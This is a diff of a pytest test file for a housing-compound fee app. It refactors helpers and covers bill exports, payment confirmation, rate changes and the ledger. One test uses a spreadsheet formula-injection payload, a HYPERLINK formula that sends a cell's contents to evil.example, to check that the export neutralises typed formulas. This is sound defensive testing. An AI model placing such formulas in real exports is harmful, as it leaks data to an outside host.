@@ -9,16 +9,23 @@ from datetime import UTC, datetime, time
 import pytest
 from freezegun import freeze_time
 from openpyxl import load_workbook
-from sqlalchemy import event, select
+from sqlalchemy import select
 
 from server import labels
 from server.clock import SHANGHAI
 from server.extensions import db
-from server.models import Bill, FeeItem, Notification, Payment, PaymentBill, SubscriptionQuota
+from server.models import Bill, FeeItem, Notification, SubscriptionQuota
 from server.services.money import fees, reminders
-from tests.factories import build_world, self_governance_fee, stair_electricity_fee
+from tests.factories import (
+    bill_of,
+    build_world,
+    make_payment,
+    self_governance_fee,
+    stair_electricity_fee,
+)
+from tests.helpers import statements
+from tests.steps import confirm_cash, decide, recorded_cash
 from tests.timing import (
-    day,
     in_quarter,
     month,
     quarter_end_offset,
@@ -42,27 +49,9 @@ def world(db_session):
     return world
 
 
-def record_cash(client, world, label, who="liaison_1_1"):
-    household_id = world.household(label).id
-    bills = client.get(
-        f"/api/v1/fees/unpaid-bills?household_id={household_id}", headers=world.headers(who)
-    )
-    assert bills.status_code == 200, bills.get_json()
-    items = bills.get_json()["items"]
-    body = {
-        "bill_ids": [b["id"] for b in items],
-        "method": "cash",
-        "amount_fen": sum(b["amount_fen"] for b in items),
-        "paid_on": YESTERDAY.isoformat(),
-    }
-    recorded = client.post("/api/v1/offline-payments", json=body, headers=world.headers(who))
-    assert recorded.status_code == 201
-    return recorded.get_json()["id"]
-
-
 def test_collection_figures_per_building_and_unit(client, world):
-    payment = record_cash(client, world, "1-1-101")
-    client.post(f"/api/v1/offline-payments/{payment}/confirm", headers=world.headers("committee"))
+    payment = recorded_cash(client, world, "1-1-101")
+    confirm_cash(client, world, payment, "committee")
     response = client.get(
         f"/api/v1/fees/summary?compound=aa&period={THIS}", headers=world.headers("supervisor")
     )
@@ -118,8 +107,8 @@ def export(client, world, who="committee"):
 
 
 def test_the_export_lists_bills_and_how_they_were_paid(client, world):
-    payment = record_cash(client, world, "1-1-101")
-    client.post(f"/api/v1/offline-payments/{payment}/confirm", headers=world.headers("committee_2"))
+    payment = recorded_cash(client, world, "1-1-101")
+    confirm_cash(client, world, payment, "committee_2")
     header, *rows, total, paid_total = sheets(export(client, world))["账单"]
     assert header == [
         "账单号",
@@ -138,35 +127,17 @@ def test_the_export_lists_bills_and_how_they_were_paid(client, world):
     assert paid_total[:1] + paid_total[4:5] == ["其中已缴（1 笔）", 25.33]
 
 
-def _bill(world, label: str, period: str) -> Bill:
-    return db.session.scalars(
-        select(Bill).where(Bill.household_id == world.household(label).id, Bill.period == period)
-    ).one()
-
-
-def _online(world, labels_periods, status, out_trade_no, paid_at=None, transaction_id=None):
-    """A WeChat Pay order as the payment service leaves it (the service is not under test)."""
-    bills = [_bill(world, label, period) for label, period in labels_periods]
-    payment = Payment(
-        compound_id=world.compound.id,
-        household_id=bills[0].household_id,
-        payer_id=world.people["resident_1_1"].id,
+def online_order(world, labels_periods, status, out_trade_no, paid_at=None, transaction_id=None):
+    """A WeChat Pay order of these (household, period) bills, left as the service would."""
+    bills = [bill_of(world, label, period=period) for label, period in labels_periods]
+    return make_payment(
+        world,
+        bills,
+        status,
         out_trade_no=out_trade_no,
-        total_fen=sum(b.amount_fen for b in bills),
-        status=status,
-        transaction_id=transaction_id,
-        expires_at=day(1),
         paid_at=paid_at,
+        transaction_id=transaction_id,
     )
-    db.session.add(payment)
-    db.session.flush()
-    db.session.add_all(
-        PaymentBill(payment_id=payment.id, bill_id=b.id, amount_fen=b.amount_fen) for b in bills
-    )
-    for bill in bills:
-        bill.status, bill.paid_at = ("paid", paid_at) if status == "paid" else ("pending", None)
-    db.session.flush()
-    return payment
 
 
 def _payment_rows(response) -> list[list]:
@@ -177,16 +148,19 @@ def test_the_export_lists_each_bill_of_the_period_in_every_payment_of_it(client,
     fees.generate_bills(LAST, "aa")
     paid_at = shanghai_day(-1, "10:30")
     two_months = [("1-1-102", LAST), ("1-1-102", THIS)]
-    online = _online(world, two_months, "paid", "LL-T-1", paid_at, "4200000000000001")
-    _online(world, [("1-1-201", THIS)], "disputed", "LL-T-2")
-    _online(world, [("1-2-102", LAST)], "paid", "LL-T-3", paid_at, "42000003")  # last month
-    cash = record_cash(client, world, "1-1-101")  # its November and December bills
-    client.post(f"/api/v1/offline-payments/{cash}/confirm", headers=world.headers("committee_2"))
-    body = {"bill_ids": [_bill(world, "1-2-101", THIS).id], "method": "transfer"}
-    body.update(amount_fen=2533, paid_on=DAY_BEFORE.isoformat())
-    transfer = client.post(
-        "/api/v1/offline-payments", json=body, headers=world.headers("liaison_1_2")
-    ).get_json()["id"]
+    online = online_order(world, two_months, "paid", "LL-T-1", paid_at, "4200000000000001")
+    online_order(world, [("1-1-201", THIS)], "disputed", "LL-T-2")
+    online_order(world, [("1-2-102", LAST)], "paid", "LL-T-3", paid_at, "42000003")  # last month
+    cash = recorded_cash(client, world, "1-1-101")  # its November and December bills
+    confirm_cash(client, world, cash, "committee_2")
+    transfer = recorded_cash(
+        client,
+        world,
+        bill_of(world, "1-2-101", period=THIS),
+        "liaison_1_2",
+        method="transfer",
+        paid_on=DAY_BEFORE.isoformat(),
+    )
     client.post(
         f"/api/v1/offline-payments/{transfer}/reject",
         json={"reason": "收据与金额不符"},
@@ -203,7 +177,7 @@ def test_the_export_lists_each_bill_of_the_period_in_every_payment_of_it(client,
     fee = "自治管理费"
 
     def bill(label):
-        return _bill(world, label, THIS).id
+        return bill_of(world, label, period=THIS).id
 
     assert [r[:13] + r[14:] for r in rows] == [
         ["微信支付", "1-1-102", bill("1-1-102"), fee, THIS, 25.33, "已支付", 50.66, "LL-T-1",
@@ -223,11 +197,15 @@ def test_the_export_lists_each_bill_of_the_period_in_every_payment_of_it(client,
 
 
 def test_what_a_volunteer_typed_never_runs_as_a_formula_and_money_is_a_number(client, world):
-    body = {"bill_ids": [_bill(world, "1-2-101", THIS).id], "method": "transfer"}
-    body.update(amount_fen=2533, paid_on=DAY_BEFORE.isoformat(), note="=1+1")
-    transfer = client.post(
-        "/api/v1/offline-payments", json=body, headers=world.headers("liaison_1_2")
-    ).get_json()["id"]
+    transfer = recorded_cash(
+        client,
+        world,
+        bill_of(world, "1-2-101", period=THIS),
+        "liaison_1_2",
+        method="transfer",
+        paid_on=DAY_BEFORE.isoformat(),
+        note="=1+1",
+    )
     reason = '=HYPERLINK("http://evil.example/?"&A1,"点此核对")'
     client.post(
         f"/api/v1/offline-payments/{transfer}/reject",
@@ -249,9 +227,9 @@ def test_what_a_volunteer_typed_never_runs_as_a_formula_and_money_is_a_number(cl
 
 
 def test_the_export_lists_who_still_owes(client, world):
-    cash = record_cash(client, world, "1-1-101")
-    client.post(f"/api/v1/offline-payments/{cash}/confirm", headers=world.headers("committee_2"))
-    record_cash(client, world, "1-1-102")  # recorded, not confirmed yet: still owed
+    cash = recorded_cash(client, world, "1-1-101")
+    confirm_cash(client, world, cash, "committee_2")
+    recorded_cash(client, world, "1-1-102")  # recorded, not confirmed yet: still owed
     header, *rows, total = sheets(export(client, world))["未缴名单"]
     assert header == ["房屋", "未缴笔数", "未缴金额（元）", "其中支付中（元）"]
     assert rows == [
@@ -264,21 +242,6 @@ def test_the_export_lists_who_still_owes(client, world):
     assert total == ["合计（5 户）", 5, 126.65, 25.33]
 
 
-def _statements(fn) -> int:
-    count = 0
-
-    def counter(*_args, **_kwargs):
-        nonlocal count
-        count += 1
-
-    event.listen(db.engine, "before_cursor_execute", counter)
-    try:
-        fn()
-    finally:
-        event.remove(db.engine, "before_cursor_execute", counter)
-    return count
-
-
 def test_the_export_runs_a_constant_number_of_statements(client, world):
     def export():
         response = client.get(
@@ -289,15 +252,15 @@ def test_the_export_runs_a_constant_number_of_statements(client, world):
         return response
 
     export()  # warm up
-    cash = record_cash(client, world, "1-1-101")
-    client.post(f"/api/v1/offline-payments/{cash}/confirm", headers=world.headers("committee_2"))
-    _online(world, [("1-1-102", THIS)], "paid", "LL-T-1", datetime.now(UTC), "42000001")
-    few = _statements(export)
+    cash = recorded_cash(client, world, "1-1-101")
+    confirm_cash(client, world, cash, "committee_2")
+    online_order(world, [("1-1-102", THIS)], "paid", "LL-T-1", datetime.now(UTC), "42000001")
+    few = len(statements(export))
     for label, who in (("1-1-201", "liaison_1_1"), ("1-2-101", "liaison_1_2")):
-        record_cash(client, world, label, who=who)
+        recorded_cash(client, world, label, who=who)
     for n, label in enumerate(("1-2-102", "1-2-201")):
-        _online(world, [(label, THIS)], "pending", f"LL-T-{n + 2}")
-    many = _statements(export)
+        online_order(world, [(label, THIS)], "pending", f"LL-T-{n + 2}")
+    many = len(statements(export))
     assert len(_payment_rows(export())) == 1 + 6 + 1  # the header, a bill each, the total
     assert few == many
     assert many <= 10  # sign-in, the compound, 3 for the bills, 2 online, 2 offline
@@ -319,10 +282,7 @@ def test_a_units_electricity_entered_by_its_liaison_bills_once_confirmed(client,
     )
     item = db.session.scalars(select(FeeItem).where(FeeItem.code == "stair_electricity")).one()
     assert db.session.scalars(select(Bill).where(Bill.fee_item_id == item.id)).all() == []
-    confirmed = client.post(
-        f"/api/v1/compounds/aa/pending-changes/{reading['open_change']['id']}/confirm",
-        headers=world.headers("committee"),
-    )
+    confirmed = decide(client, world, reading["open_change"]["id"], "committee")
     assert confirmed.status_code == 200, confirmed.get_json()
     bills = db.session.scalars(select(Bill).where(Bill.fee_item_id == item.id)).all()
     assert sorted(b.amount_fen for b in bills) == [150, 150, 150]
@@ -347,10 +307,7 @@ def test_the_committee_changes_the_rate_for_bills_not_yet_made(client, world):
     assert change["summary"].startswith("自治管理费：费率 0.35 元/m²/月 → 0.40 元/m²/月，自")
     rates = {i["code"]: i["rate"] for i in fee_items(client, world)}
     assert rates["self_governance"] == "0.3500"  # not before a second person confirms
-    confirmed = client.post(
-        f"/api/v1/compounds/aa/pending-changes/{change['id']}/confirm",
-        headers=world.headers("committee_2"),
-    )
+    confirmed = decide(client, world, change["id"], "committee_2")
     assert confirmed.status_code == 200
     rates = {i["code"]: i["rate"] for i in fee_items(client, world)}
     assert rates["self_governance"] == "0.4000"
@@ -389,10 +346,7 @@ def test_the_cycle_changes_only_when_a_new_period_starts(client, world, moment, 
         if status == 202:
             next_quarter = quarter_of(month(quarter_end_offset() + 1))
             assert response.get_json()["effective_period"] == next_quarter
-            confirmed = client.post(
-                f"/api/v1/compounds/aa/pending-changes/{response.get_json()['id']}/confirm",
-                headers=world.fresh_headers("committee_2"),
-            )
+            confirmed = decide(client, world, response.get_json()["id"], "committee_2")
             assert confirmed.status_code == 200
     if status == 409:
         assert response.get_json()["code"] == "cycle_change_mid_period"
@@ -404,8 +358,8 @@ def test_the_cycle_changes_only_when_a_new_period_starts(client, world, moment, 
 
 
 def test_the_ledger_page_shows_balances_and_verifies(client, world):
-    payment = record_cash(client, world, "1-2-101", who="liaison_1_2")
-    client.post(f"/api/v1/offline-payments/{payment}/confirm", headers=world.headers("committee"))
+    payment = recorded_cash(client, world, "1-2-101", who="liaison_1_2")
+    confirm_cash(client, world, payment, "committee")
     page = client.get("/api/v1/ledger?compound=aa", headers=world.headers("supervisor")).get_json()
     assert page["verified"] is True
     assert page["balance_fen"] == {"fee:self_governance": 2533}
